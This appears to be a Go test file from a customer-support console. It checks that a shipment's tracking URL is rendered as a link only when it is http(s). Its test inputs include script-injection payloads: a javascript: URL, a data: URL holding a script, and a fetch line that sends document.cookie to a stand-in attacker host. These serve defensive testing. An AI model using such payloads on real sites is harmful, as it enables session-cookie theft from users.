package console_test

import (
	"net/http"
	"testing"
	"time"

	"github.com/doorstep-ai/doorstep/pkg/console"
	"github.com/doorstep-ai/doorstep/pkg/store"
)

// TestTrackingLinkOnlyHTTP: a fulfillment's tracking URL reaches the console
// as a link only when it is http(s); a javascript: or data: URL is dropped
// (the tracking number still shows).
func TestTrackingLinkOnlyHTTP(t *testing.T) {
	for _, tc := range []struct{ url, want string }{
		{"https://www.ups.com/track?tracknum=1Z", "https://www.ups.com/track?tracknum=1Z"},
		{"javascript:alert(document.cookie)", ""},
		{"JavaScript:fetch('//evil.example/'+document.cookie)", ""},
		{"data:text/html,<script>alert(1)</script>", ""},
	} {
		t.Run(tc.url, func(t *testing.T) {
			e := newEnv(t)
			setTrackingURL(t, e, "#1003", tc.url)
			daniel := e.customer(t, map[string]string{"email": "daniel.reyes@example.com", "order_number": "#1003"})
			daniel.say("where is my order #1003?")
			var d console.Detail
			if code := e.call(t, e.staff, http.MethodGet, "/console/api/conversations/"+daniel.id, nil, &d); code != http.StatusOK {
				t.Fatalf("detail: %d", code)
			}
			if len(d.OrderViews) != 1 || d.OrderViews[0].TrackingNumber == "" {
				t.Fatalf("order views = %+v", d.OrderViews)
			}
			if got := d.OrderViews[0].TrackingURL; got != tc.want {
				t.Errorf("tracking_url = %q, want %q", got, tc.want)
			}
		})
	}
}

// setTrackingURL gives an order's shipments url, as a fulfillments/update
// carrying it would.
func setTrackingURL(t *testing.T, e *env, name, url string) {
	t.Helper()
	o, err := e.r.Store.GetOrderByName(t.Context(), shop, name)
	if err != nil {
		t.Fatal(err)
	}
	if len(o.Shipments) == 0 {
		t.Fatalf("%s has no shipment", name)
	}
	later := e.r.Clock.Now().Add(time.Minute)
	for i := range o.Shipments {
		o.Shipments[i].TrackingURL, o.Shipments[i].UpdatedAt = url, later
	}
	if _, err := e.r.Store.Apply(t.Context(), store.Change{Shop: shop, Shipments: o.Shipments}); err != nil {
		t.Fatal(err)
	}
}
